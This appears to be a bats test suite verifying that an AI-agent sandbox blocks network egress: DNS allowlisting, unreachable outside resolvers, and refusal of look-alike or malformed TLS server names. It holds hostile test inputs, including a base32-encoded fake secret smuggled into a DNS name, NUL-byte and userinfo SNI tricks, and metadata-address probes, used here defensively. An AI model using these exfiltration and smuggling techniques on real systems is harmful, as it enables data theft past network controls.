#!/usr/bin/env bats
# Egress threats 1-5 (docs/egress-tests.md, /work/shared/notes/threat-model.md):
# names. Only allowlisted names resolve, only locally, and the router picks
# its upstream from the allowlist, whatever the agent sends. "Nothing leaves"
# is checked at the fake internet (tests/e2e/fake-internet.bash): its DNS
# logged no query for the name, no tripwire saw anything.
#
# Inside the sandbox $R is the session's resolver (the router), from
# /etc/resolv.conf; ./netprobe is tests/e2e/fixtures/netprobe.

load helpers
load fake-internet

setup_file() { fi_up; }
teardown_file() { fi_down; }
setup() { as_setup; fi_setup; }
teardown() { as_teardown; }

R='R=$(awk "/^nameserver/ {print \$2; exit}" /etc/resolv.conf)'

@test "threat 1: names not on the allowlist get no answer, for every record type, over UDP and TCP" {
    run_x 0 agent-sandbox --exec bash -c "$R"'
        for n in evil.test canary.test x.api.allowed.test api.allowed.test.evil.test EVIL.TEST; do
            ./netprobe dns $R A,AAAA,TXT,MX,ANY,HTTPS,SRV,CNAME,NS,SOA $n | sed "s/:/ $n:/"
            echo "tcp A $n: $(./netprobe dns --tcp $R A $n)"
            echo "tcp TXT $n: $(./netprobe dns --tcp $R TXT $n)"
            getent ahosts $n; echo "getent $n: $?"
        done
        echo "PTR canary: $(./netprobe dns $R PTR '"$(awk -F. '{print $4"."$3"."$2"."$1}' <<<"$FI_CANARY_IP")"'.in-addr.arpa)"'
    local n t
    for n in evil.test canary.test x.api.allowed.test api.allowed.test.evil.test EVIL.TEST; do
        for t in A AAAA TXT MX ANY HTTPS SRV CNAME NS SOA "tcp A" "tcp TXT"; do
            expect "$t $n" "NXDOMAIN an=0"
        done
        expect "getent $n" 2
    done
    expect "PTR canary" "NXDOMAIN an=0"
    fi_assert_nothing_left
}

@test "threat 1: allowed names answer only A, with their loopback address, locally" {
    run_x 0 agent-sandbox --exec bash -c "$R"'
        for n in api.allowed.test db.allowed.test wild.test www.wild.test; do
            ./netprobe dns $R A,AAAA,TXT,MX,ANY,HTTPS,SRV $n | sed "s/:/ $n:/"
        done
        getent ahostsv6 api.allowed.test | grep -v "::ffff:"; echo "ipv6 addresses: $?"'
    local t
    for t in A ANY; do
        expect "$t api.allowed.test" "NOERROR an=1 A 127.0.0.2"
        expect "$t db.allowed.test" "NOERROR an=1 A 127.0.0.3"
        expect "$t wild.test" "NOERROR an=1 A 127.0.0.2"
        expect "$t www.wild.test" "NOERROR an=1 A 127.0.0.2"
    done
    for t in AAAA TXT MX HTTPS SRV; do
        expect "$t api.allowed.test" "NOERROR an=0"
        expect "$t db.allowed.test" "NOERROR an=0"
        expect "$t wild.test" "NOERROR an=0"
        expect "$t www.wild.test" "NOERROR an=0"
    done
    expect "ipv6 addresses" 1
    fi_assert_nothing_left
}

@test "threat 2: base32(secret).<allowed wildcard> lookups are answered locally; the fake DNS sees nothing" {
    run_x 0 agent-sandbox --exec bash -c "$R"'
        secret=$(echo "ssh-rsa AAAAB3NzaC1yc2E secret-token-4711" | base32 -w0 | tr -d = | tr A-Z a-z)
        name=$(echo "$secret" | sed -E "s/(.{60})/\1./g").wild.test
        echo "name: $name"
        echo "getent: $(getent ahostsv4 "$name" | awk "NR == 1 {print \$1}")"
        ./netprobe dns $R A,AAAA,TXT,MX,ANY,HTTPS "$name"
        echo "tcp TXT: $(./netprobe dns --tcp $R TXT "$name")"
        # the same under an exact name is not even answered
        echo "under exact: $(./netprobe dns $R A "${name%.wild.test}.api.allowed.test")"'
    local name
    name=$(sed -n 's/^name: //p' <<<"$output")
    assert "$name" =~ "^[a-z2-7.]+[.]wild[.]test$" "the exfiltration name"
    expect getent 127.0.0.2
    expect A "NOERROR an=1 A 127.0.0.2"
    expect ANY "NOERROR an=1 A 127.0.0.2"
    local t
    for t in AAAA TXT MX HTTPS "tcp TXT"; do expect "$t" "NOERROR an=0"; done
    expect "under exact" "NXDOMAIN an=0"
    fi_assert_no_query "$name" "${name%%.*}"
    fi_assert_nothing_left
}

@test "threat 3: no other resolver is reachable: public addresses, the fake DNS, the router's egress side, gateways, host.containers.internal" {
    # The router's address on the fake internet is known only once the
    # session runs: the test hands it in through a file.
    bg_start agent-sandbox --exec bash -c "$R"'
        # never send anything towards a public address unless there is
        # provably no route for it
        if awk "NR > 1 && \$2 == \"00000000\"" /proc/net/route | grep -q . ||
           awk "\$1 ~ /^0+\$/ && \$2 == \"00\" && \$10 != \"lo\"" /proc/net/ipv6_route | grep -q .; then
            echo "DEFAULT ROUTE IN THE POD"; cat /proc/net/route /proc/net/ipv6_route; exit 9
        fi
        echo "routes: $(awk "NR > 1 {print \$1, \$2, \$3}" /proc/net/route | sort | xargs)"
        while [ ! -s egress-ip ]; do sleep 0.1; done
        egress=$(cat egress-ip)
        gw=${R%.*}.1; echo "gateway: $gw"
        for s in 192.0.2.53 198.51.100.53 '"$FI_DNS_IP $FI_CANARY_IP"' $egress $gw 10.0.2.3 10.88.0.1 169.254.169.254; do
            echo "udp $s: $(./netprobe dns $s A evil.test)"
            echo "tcp $s: $(./netprobe dns --tcp $s A evil.test)"
        done
        getent ahosts host.containers.internal; echo "getent host.containers.internal: $?"
        echo "router host.containers.internal: $(./netprobe dns $R A host.containers.internal)"
        grep -c host.containers.internal /etc/hosts; true'
    local egress
    egress=$(fi_router_egress_ip)
    echo "$egress" >"$AS_DIR/egress-ip"
    bg_wait 60
    assert "$status" == 0 "exit status of the session"
    local subnet
    subnet=$(sed -n 's/^routes: //p' <<<"$output")
    assert "$subnet" =~ "^eth0 [0-9A-F]{8} 00000000$" "the pod's only route: its own subnet, no gateway"
    local s
    for s in 192.0.2.53 198.51.100.53 "$FI_DNS_IP" "$FI_CANARY_IP" "$egress" 10.0.2.3 10.88.0.1 169.254.169.254; do
        expect "udp $s" "error: Network is unreachable"
        expect "tcp $s" =~ "^error: .*Network is unreachable"
    done
    # The session network's first address (its gateway, were it not
    # internal) is the pod itself: nothing answers DNS there.
    local gw
    gw=$(sed -n 's/^gateway: //p' <<<"$output")
    assert "$gw" =~ "^[0-9.]+[.]1$" "the session network's first address"
    expect "udp $gw" =~ "^(timeout|error: Connection refused)$"
    expect "tcp $gw" =~ "^error: .*Connection refused"
    expect "getent host.containers.internal" 2
    expect "router host.containers.internal" "NXDOMAIN an=0"
    fi_assert_nothing_left
}

@test "threat 4: x.api.allowed.test is refused when only api.allowed.test is allowed; so are look-alikes" {
    run_x 0 agent-sandbox --exec bash -c '
        for n in x.api.allowed.test api.allowed.test.evil.test evilapi.allowed.test evilwild.test wild.test.evil.test allowed.test; do
            echo "tls $n: $(./netprobe hello 127.0.0.2 443 $n)"
            echo "https $n: $(curl -sS --cacert ca.pem --resolve $n:443:127.0.0.2 https://$n/ 2>&1 >/dev/null | head -1)"
            echo "http $n: $(curl -sS -H "Host: $n" http://127.0.0.2/)"
        done
        echo "control: $(curl -sS --cacert ca.pem https://api.allowed.test/)"'
    local n
    for n in x.api.allowed.test api.allowed.test.evil.test evilapi.allowed.test evilwild.test wild.test.evil.test allowed.test; do
        expect "tls $n" closed
        expect "https $n" =~ "^curl: \((35|56)\) "
        expect "http $n" "blocked by agent-sandbox: $n"
    done
    expect control "origin tls sni=api.allowed.test host=api.allowed.test"
    assert "$(fi_dns_queries | sort -u)" == "A api.allowed.test" "the only name the fake DNS was asked for"
    fi_assert_no_hit
}

@test "threat 5: SNI in upper case or with a trailing dot is routed to the canonical allowed name" {
    run_x 0 agent-sandbox --exec bash -c '
        req() { printf "GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" "$2" |
            openssl s_client -quiet -connect 127.0.0.2:443 -servername "$1" -CAfile ca.pem \
                -verify_return_error -verify_hostname "$2" 2>/dev/null | tail -1; }
        echo "upper: $(req API.ALLOWED.TEST api.allowed.test)"
        echo "dot: $(req api.allowed.test. api.allowed.test)"
        echo "mixed wildcard: $(req WwW.WILD.test. www.wild.test)"'
    expect upper "origin tls sni=API.ALLOWED.TEST host=api.allowed.test"
    expect dot "origin tls sni=api.allowed.test. host=api.allowed.test"
    expect "mixed wildcard" "origin tls sni=WwW.WILD.test. host=www.wild.test"
    # the upstream name: the exact name as listed; for the wildcard the
    # agent's labels (in any case: DNS ignores it) and the listed apex,
    # without the trailing dot
    assert "$(fi_dns_queries | sort -u)" =~ $'^A api.allowed.test\nA [wW]{3}[.]wild[.]test$' "names the fake DNS was asked for"
    fi_assert_no_hit
}

@test "threat 5, 34: empty, absent, over-long and malformed SNI, and names with trailing whitespace, are refused; nothing leaves" {
    local long253 long254
    long253=$(printf 'a%.0s' {1..63}).$(printf 'b%.0s' {1..63}).$(printf 'c%.0s' {1..63}).$(printf 'd%.0s' {1..51}).wild.test
    long254=$(printf 'a%.0s' {1..63}).$(printf 'b%.0s' {1..63}).$(printf 'c%.0s' {1..63}).$(printf 'd%.0s' {1..52}).wild.test
    run_x 0 agent-sandbox --exec bash -c '
        probe() { echo "$1: $(./netprobe hello 127.0.0.2 443 "$2")"; }
        probe empty ""
        probe absent -
        probe nul "api.allowed.test\x00.evil.test"
        probe nul-end "api.allowed.test\x00"
        probe space "api.allowed.test evil.test"
        probe port "api.allowed.test:443"
        probe userinfo "evil.test@api.allowed.test"
        probe slash "evil.test/.wild.test"
        probe empty-label "x..wild.test"
        probe leading-hyphen "-x.wild.test"
        probe label-64 "$(printf "x%.0s" {1..64}).wild.test"
        probe over-253 "$1"
        probe over-253-dot "$1."
        probe way-over "$(printf "a%.0s" {1..300}).wild.test"
        probe ip "'"$FI_CANARY_IP"'"
        for n in api.allowed.test x.wild.test wild.test; do
            probe "$n+lf" "$n\x0a"
            probe "$n+cr" "$n\x0d"
            probe "$n+space" "$n "
            probe "$n+tab" "$n\x09"
            probe "$n+dot+lf" "$n.\x0a"
        done
        probe control-253 "$0"' "$long253" "$long254"
    local p
    for p in empty absent nul nul-end space port userinfo slash empty-label leading-hyphen label-64 over-253 over-253-dot way-over ip; do
        expect "$p" closed
    done
    # threat 34: a trailing newline, carriage return, space or tab, for
    # exact and wildcard entries alike
    local n c
    for n in api.allowed.test x.wild.test wild.test; do
        for c in lf cr space tab dot+lf; do
            expect "$n+$c" closed
        done
    done
    expect control-253 handshake
    # the 253-byte name is the only one that may reach the fake DNS
    assert "$(fi_dns_queries)" == "A $long253" "names the fake DNS was asked for"
    fi_assert_no_hit
}
